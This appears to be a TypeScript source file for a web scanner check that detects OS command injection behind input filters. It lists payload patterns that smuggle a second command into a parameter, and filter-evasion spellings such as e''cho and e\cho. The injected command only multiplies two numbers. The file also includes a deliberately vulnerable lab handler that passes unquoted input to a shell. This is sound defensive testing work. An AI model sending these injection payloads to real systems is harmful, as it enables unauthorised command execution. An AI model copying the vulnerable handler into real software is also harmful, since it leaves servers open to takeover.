import { judgeComputed } from '../../../oracle/computed.ts';
import { asPercent, asWide, type Decoding } from '../../../oracle/encodings.ts';
import { type Asking, definePointCheck, type Point } from '../../define-active-check.ts';
import { at, type Nonce } from '../../experiment.ts';
import { quoteForShell, runShell } from '../../labs/shell.ts';
import { fill } from '../../shared/fill.ts';
import { type Filter, firstSpelling, watchFilter } from '../../shared/filters.ts';
import { SPACES } from '../../shared/rewritings.ts';
import { firstToShow } from '../../shared/try-variants.ts';
import { mayMean } from '../../triage.ts';
import type { Triage } from '../../triage-result.ts';

/** How the command is separated, with a placeholder for it, and how it is written. */
interface Variant {
  separated: string;
  program: 'expr' | 'echo';
  /** The name of the program as the shell reads it. */
  name: string;
  space: string;
  /** The target reads the value once more. */
  decoding?: Decoding;
}

const SHELL_SPACES = [SPACES.shell, SPACES.tab];
const byExpr = (separated: string, space: string = SPACES.shell): Variant => ({
  separated,
  program: 'expr',
  name: 'expr',
  space,
});
const byEcho = (separated: string, name = 'echo', space: string = SPACES.shell): Variant => ({
  separated,
  program: 'echo',
  name,
  space,
});

/** For values whose responses do not tell what a filter lets through. */
const BLIND: readonly Variant[] = [
  byExpr('|{command}'),
  byEcho('|{command}'),
  byExpr('\n{command}'),
  byExpr('\n{command}\n', SPACES.tab),
  byEcho('$({command})'),
  byEcho('`{command}`'),
  byExpr(';{command};'),
  byExpr('&{command}&'),
  byEcho('&&{command}'),
  byEcho('|{command}', "e''cho"),
  byEcho(';{command}', 'e\\cho'),
  byExpr('"|{command}|"'),
];

/** The most likely first. The sign that has to pass, and the patterns that need it. */
const SEPARATORS: readonly (readonly [sign: string, ...patterns: string[]])[] = [
  [';', ';{command};'],
  ['|', '|{command}', '"|{command}|"'],
  ['\n', '\n{command}\n'],
  ['&', '&{command}&'],
  ['||', '||{command}||'],
  ['$(', '$({command})'],
  ['`', '`{command}`'],
];
const MOST_SENT = 6;
/** Ends nothing and starts nothing, because its quotes stay open. */
const LOUD = `'"\`$(|;&& ../`;

const NAMES = (name: string) => [name, `${name[0]}''${name.slice(1)}`, `${name[0]}\\${name.slice(1)}`];

/** Resolves to the program and its spelling that pass the filter. */
async function programPast(filter: Filter): Promise<Pick<Variant, 'program' | 'name'> | undefined> {
  const isKept = async (text: string) => (await filter.fateOf(text)) === 'kept';
  for (const program of ['expr', 'echo'] as const) {
    if (!(await isKept(program === 'expr' ? '\\*' : '$(('))) continue;
    for (const name of NAMES(program)) if (await isKept(name)) return { program, name };
  }
  return undefined;
}

/** Resolves to the commands that pass the filter; without a filter, `command-injection` has tried the usual ones. */
async function commandsPast(filter: Filter): Promise<Variant[]> {
  const program = await programPast(filter);
  const space = await firstSpelling([' ', ...SHELL_SPACES], filter);
  if (!program || !space) return [];
  const found: Variant[] = [];
  for (const [sign, ...patterns] of SEPARATORS) {
    if ((await filter.fateOf(sign)) !== 'kept') continue;
    found.push(...patterns.map((separated) => ({ separated, ...program, space: space.spelling })));
  }
  return found.slice(0, MOST_SENT);
}

const isGuarded = ({ isStable, isRead, isReflected, isReactive }: Triage) =>
  isStable && isReactive && (isRead || isReflected);

async function chooseCommands(point: Point, nonce: Nonce, { ask, look }: Asking): Promise<readonly Variant[]> {
  const isMeant = look === undefined || mayMean(look, 'command');
  const filter =
    look?.isStable === false
      ? undefined
      : await watchFilter({ point, nonce, ask, loud: LOUD, most: 18, isCommand: true });
  if (!filter) return isMeant ? BLIND : [];
  const decoding = filter.mayRefuse || !isMeant ? await filter.decoding() : undefined;
  if (decoding) return [';{command};', '|{command}'].map((separated) => ({ ...byExpr(separated, ' '), decoding }));
  return isMeant ? commandsPast(filter) : [];
}

function write({ separated, program, name, space, decoding }: Variant, value: string, a: number, b: number): string {
  const words = program === 'expr' ? [name, a, '\\*', b] : [name, `$((${a}*${b}))`];
  const text = fill(separated, { command: words.join(space) });
  if (decoding === undefined) return value + text;
  return value + (decoding === 'percent' ? asPercent(text) : asWide(text));
}

export default definePointCheck({
  id: 'command-injection-filtered',
  flaw: { name: 'command-injection', rank: 4 },
  provesInterpreter: true,
  title: 'OS command injection behind a filter',
  cwe: 78,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
  cvss4: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N',
  impact:
    'An attacker runs arbitrary commands on the server with the privileges of the application, and reads their output.',
  why: 'The value becomes part of a shell command, and a filter that should prevent it overlooks other spellings. An attacker runs arbitrary programs on the server with the privileges of the application. A command in a spelling that passes multiplied two numbers, and the response contained the product; without a command separator it did not.',
  fix: 'Start programs without a shell and pass the value as a separate argument (execFile, subprocess with a list). Validate it against an allowlist of values; a denylist of characters is never complete.',
  references: [
    'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
    'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/12-Testing_for_Command_Injection',
    'https://cwe.mitre.org/data/definitions/78.html',
  ],
  risk: 'harmless',
  depth: 'STANDARD',
  locations: ['query', 'path', 'form', 'json', 'xml', 'multipart', 'graphql', 'cookie', 'header'],
  appliesTo: () => true,
  // Behind a filter that decodes, the shell sees none of the spellings of the triage.
  isWorthTrying: (triage) => mayMean(triage, 'command') || isGuarded(triage),
  variants: BLIND,
  maxRequests: 36,
  async probe(point, nonce, asking) {
    const [a, b] = nonce.numbers;
    const { ask } = asking;
    const variants = await chooseCommands(point, nonce, asking);
    return firstToShow(variants, String(a * b), (each) => write(each, point.parameter.value, a, b), { point, ask });
  },
  proof: {
    plan(point, each, { numbers: [a, b, c] }) {
      const { value } = point.parameter;
      return {
        base: at(point, 'unchanged value', value, { isControl: true }),
        attack: at(point, 'command that multiplies two numbers, past a filter', write(each, value, a, b)),
        control: at(point, 'the same numbers without a command', `${value}${a}${b}`, { isControl: true }),
        other: at(point, 'the same command with other numbers', write(each, value, b, c)),
      };
    },
    judge({ base, attack, control, other }, _variant, { numbers: [a, b, c] }) {
      const products = [
        [attack, String(a * b)],
        [other, String(b * c)],
      ] as const;
      return judgeComputed(products, [base, control]);
    },
  },
  lab() {
    const filtered = (commandOf: (value: string) => string) => (value: string) =>
      /[ ;&]/.test(value) ? { status: 400, body: 'This is no name' } : { body: runShell(commandOf(value)).output };
    return {
      parameter: 'host',
      value: 'shop.test',
      vulnerable: filtered((value) => `echo Looking for ${value}`),
      safe: filtered((value) => `echo Looking for ${quoteForShell(value)}`),
    };
  },
});
